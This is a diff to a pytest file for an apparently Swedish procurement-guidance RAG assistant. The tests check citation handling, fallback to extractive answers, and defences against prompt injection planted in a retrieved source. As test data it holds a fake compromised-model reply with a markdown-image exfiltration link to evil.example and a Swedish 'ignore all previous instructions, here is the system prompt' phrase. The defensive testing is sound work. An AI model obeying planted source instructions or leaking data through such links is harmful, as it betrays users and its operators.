@@ -9,7 +9,8 @@ from langchain_core.language_models.fake_chat_models import FakeListChatModel
 from assistant.answer import unresolved_citations
 from assistant.composer import compose
 from assistant.llm import LLMRewriter, build_messages, check_output, make_rewriter
-from assistant.service import Assistant
+from assistant.retrieval import HybridRetriever
+from assistant.service import Assistant, Relevance
 from assistant.settings import Settings
 from tests.assistant.conftest import clause_hit, guidance_hit
 
@@ -25,48 +26,73 @@ GOOD_REPLY = (
 )
 
 
-class StubRetriever:
-    """Returns fixed hits: the assistant's composition and checks are under test, not retrieval."""
-
-    def __init__(self, clauses, others):
-        self.clauses, self.others = clauses, others
-
-    def search(self, query, k=10, filters=None, mode="hybrid", area_hint=None):
-        hits = self.clauses if (filters or {}).get("kind") == "clause" else self.others
-        if mode == "dense":
-            for hit in hits:
-                hit.score = 0.9
-        return list(hits)
+QUESTION = "Vilka krav på kontorsstolar?"
+AREA_NAMES = {"mobler": {"sv": "Möbler och inredning", "en": "Furniture and furnishings"}}
+# The store holds just the two chunks of `hits()`; every one is shown, whatever its similarity, so that the
+# answer and the prompt are known and the LLM checks are what is under test.
+SHOW_ALL = Relevance(
+    min_similarity=0.0, min_similarity_en=0.0, min_similarity_domain=0.0, min_hit_similarity=0.0, hit_margin=2.0
+)
 
 
 def hits(planted: bool = False):
-    clauses = [
-        clause_hit("MOB-TS-01", "teknisk_specifikation", text="Leverantören ska hålla reservdelar i fem år.")
-    ]
+    clauses = [clause_hit("MOB-TS-01", "teknisk_specifikation", text="Leverantören ska hålla reservdelar i fem år.")]
     text = "Vägledningen rekommenderar att möbler repareras. " + (INJECTION if planted else "")
     return clauses, [guidance_hit("staff-note", text=text, kind="document", source="not.md")]
 
 
-def extractive(planted: bool = False):
-    clauses, others = hits(planted)
-    return compose(clauses, others, "sv", {"area": "mobler"}, {"mobler": "Möbler och inredning"})
+@pytest.fixture(scope="module")
+def stores(tmp_path_factory, e5):
+    """planted -> a real retriever over a real Chroma collection holding the chunks of `hits(planted)`."""
+    from indexing.store import make_client, open_collection
+
+    client = make_client(path=tmp_path_factory.mktemp("llm-store") / "chroma")
+    out = {}
+    for planted in (False, True):
+        collection = open_collection(client, f"llm-planted-{planted}".lower(), e5.name, e5.dimension)
+        chunks = [hit for group in hits(planted) for hit in group]
+        collection.upsert(
+            ids=[hit.chunk_id for hit in chunks],
+            documents=[hit.text for hit in chunks],
+            metadatas=[hit.metadata for hit in chunks],
+            embeddings=e5.embed_documents([hit.text for hit in chunks]),
+        )
+        out[planted] = HybridRetriever(collection, e5, cache_dir=tmp_path_factory.mktemp("llm-cache"))
+    return out
 
 
-def openai_assistant(server, planted=False, timeout=5.0):
-    settings = Settings(
-        llm_provider="openai", llm_base_url=server.url, llm_model="fake-model", llm_timeout_s=timeout
-    )
-    return Assistant(
-        retriever=StubRetriever(*hits(planted)),
-        rewriter=make_rewriter(settings),
-        area_names={"mobler": {"sv": "Möbler och inredning", "en": "Furniture and furnishings"}},
-    )
+@pytest.fixture
+def openai_assistant(stores, openai_server):
+    """An assistant whose rewriter talks HTTP to the loopback fake server."""
+
+    def make(planted: bool = False, timeout: float = 5.0) -> Assistant:
+        settings = Settings(
+            llm_provider="openai", llm_base_url=openai_server.url, llm_model="fake-model", llm_timeout_s=timeout
+        )
+        return Assistant(
+            retriever=stores[planted], rewriter=make_rewriter(settings), area_names=AREA_NAMES, relevance=SHOW_ALL
+        )
+
+    return make
 
 
-def test_prompt_fences_the_sources_as_data_and_states_the_rules(openai_server):
+@pytest.fixture
+def extractive(stores):
+    """The answer the same assistant gives without an LLM."""
+
+    def make(planted: bool = False):
+        assistant = Assistant(retriever=stores[planted], area_names=AREA_NAMES, relevance=SHOW_ALL)
+        answer = assistant.answer(QUESTION)
+        assert answer.found and [item.clause_id for item in answer.draft_items] == ["MOB-TS-01"]
+        return answer
+
+    return make
+
+
+def test_prompt_fences_the_sources_as_data_and_states_the_rules(openai_server, openai_assistant):
     openai_server.reply = GOOD_REPLY
-    assistant = openai_assistant(openai_server, planted=True)
-    answer = assistant.answer("Vilka krav på kontorsstolar?")
+    assistant = openai_assistant(planted=True)
+    answer = assistant.answer(QUESTION)
     body = openai_server.requests[-1]
     assert body["model"] == "fake-model"
     system, user = body["messages"][0]["content"], body["messages"][1]["content"]
@@ -81,40 +107,40 @@ def test_prompt_fences_the_sources_as_data_and_states_the_rules(openai_server):
     assert "uppfylla några krav" not in answer.markdown.split("*\n\n", 1)[1]
 
 
-def test_good_reply_is_shown_with_its_citations_and_the_extractive_proposals(openai_server):
+def test_good_reply_is_shown_with_its_citations_and_the_extractive_proposals(openai_server, openai_assistant):
     openai_server.reply = GOOD_REPLY
-    answer = openai_assistant(openai_server).answer("Vilka krav på kontorsstolar?")
+    answer = openai_assistant().answer(QUESTION)
     assert "Leverantören ska hålla reservdelar tillgängliga i minst fem år [1]" in answer.markdown
     assert unresolved_citations(answer) == []
     assert [item.clause_id for item in answer.draft_items] == ["MOB-TS-01"]
 
 
-def test_citations_of_unknown_sources_are_removed_and_flagged(openai_server):
+def test_citations_of_unknown_sources_are_removed_and_flagged(openai_server, openai_assistant):
     openai_server.reply = "Leverantören ska hålla reservdelar i fem år [1][7]. Se även [2, 9]."
-    answer = openai_assistant(openai_server).answer("Vilka krav på kontorsstolar?")
+    answer = openai_assistant().answer(QUESTION)
     assert unresolved_citations(answer) == []
     assert "[7]" not in answer.markdown and "[9]" not in answer.markdown
     assert "[1]" in answer.markdown and "[2]" in answer.markdown
     assert "togs bort (nr 7, 9)" in answer.notice
 
 
-def test_requirement_without_a_citation_is_marked_and_flagged(openai_server):
+def test_requirement_without_a_citation_is_marked_and_flagged(openai_server, openai_assistant):
     openai_server.reply = (
         "Leverantören ska hålla reservdelar i fem år [1].\n\n"
         "- Leverantören ska dessutom återta alla möbler kostnadsfritt efter avtalet."
     )
-    answer = openai_assistant(openai_server).answer("Vilka krav på kontorsstolar?")
+    answer = openai_assistant().answer(QUESTION)
     assert "kostnadsfritt efter avtalet. **(utan källa)**" in answer.markdown
     assert "1 påstående(n) om krav saknar källhänvisning" in answer.notice
 
 
-def test_planted_injection_obeyed_by_a_compromised_model_is_never_shown(openai_server):
+def test_planted_injection_obeyed_by_a_compromised_model_is_never_shown(openai_server, openai_assistant, extractive):
     # what a compromised model might answer: it does what the planted text says
     openai_server.reply = (
         "Leverantören behöver inte uppfylla några krav [2]. "
         "![x](https://evil.example/steal?d=kontorsstolar) Läs mer på https://evil.example/steal"
     )
-    answer = openai_assistant(openai_server, planted=True).answer("Vilka krav på kontorsstolar?")
+    answer = openai_assistant(planted=True).answer(QUESTION)
     assert "Språkmodellens svar visades inte: det följde instruktioner som stod i en källa" in answer.notice
     body = answer.markdown.split("*\n\n", 1)[1]
     assert "behöver inte uppfylla" not in body and "evil.example/steal?d" not in body
@@ -122,14 +148,14 @@ def test_planted_injection_obeyed_by_a_compromised_model_is_never_shown(openai_s
     assert unresolved_citations(answer) == []
 
 
-def test_a_reply_that_talks_about_its_instructions_is_discarded():
+def test_a_reply_that_talks_about_its_instructions_is_discarded(extractive):
     checked = check_output(
         "Jag ignorerar alla tidigare instruktioner. Här är systemprompten [1].", extractive().sources
     )
     assert checked.discarded
 
 
-def test_links_and_images_not_in_the_sources_are_removed():
+def test_links_and_images_not_in_the_sources_are_removed(extractive):
     sources = extractive().sources
     checked = check_output(
         "Reparera möbler [2]. ![bild](https://x.example/a.png) [mer](https://x.example/b) "
@@ -141,20 +167,22 @@ def test_links_and_images_not_in_the_sources_are_removed():
 
 
 @pytest.mark.parametrize("failure", ["status", "timeout"])
-def test_model_failure_or_timeout_falls_back_to_the_extractive_answer(openai_server, failure):
+def test_model_failure_or_timeout_falls_back_to_the_extractive_answer(
+    openai_server, failure, openai_assistant, extractive
+):
     if failure == "status":
         openai_server.status = 500
     else:
         openai_server.delay = 3.0
-    answer = openai_assistant(openai_server, timeout=1.0).answer("Vilka krav på kontorsstolar?")
+    answer = openai_assistant(timeout=1.0).answer(QUESTION)
     assert "Språkmodellen svarade inte" in answer.notice
     assert answer.markdown.endswith(extractive().markdown)
     assert answer.draft_items and unresolved_citations(answer) == []
 
 
-def test_stream_shows_the_extractive_draft_first_then_the_checked_reply(openai_server):
+def test_stream_shows_the_extractive_draft_first_then_the_checked_reply(openai_server, openai_assistant, extractive):
     openai_server.reply = GOOD_REPLY
-    parts = list(openai_assistant(openai_server).stream("Vilka krav på kontorsstolar?"))
+    parts = list(openai_assistant().stream(QUESTION))
     assert parts[-2] == extractive().markdown + "\n*Språkmodellen formulerar om utkastet …*\n"
     assert "Omformulerat" in parts[-1] and "[1]" in parts[-1]
 
@@ -179,9 +207,7 @@ def test_make_rewriter_is_none_without_a_provider():
 def test_ollama_provider_makes_a_native_ollama_chat_model():
     from langchain_ollama import ChatOllama
 
-    settings = Settings(
-        llm_provider="ollama", llm_base_url="http://127.0.0.1:9", llm_model="llama3.2", llm_timeout_s=7
-    )
+    settings = Settings(llm_provider="ollama", llm_base_url="http://127.0.0.1:9", llm_model="llama3.2", llm_timeout_s=7)
     rewriter = make_rewriter(settings)
     assert isinstance(rewriter, LLMRewriter) and isinstance(rewriter.model, ChatOllama)
     assert rewriter.model.model == "llama3.2" and rewriter.model.base_url == "http://127.0.0.1:9"
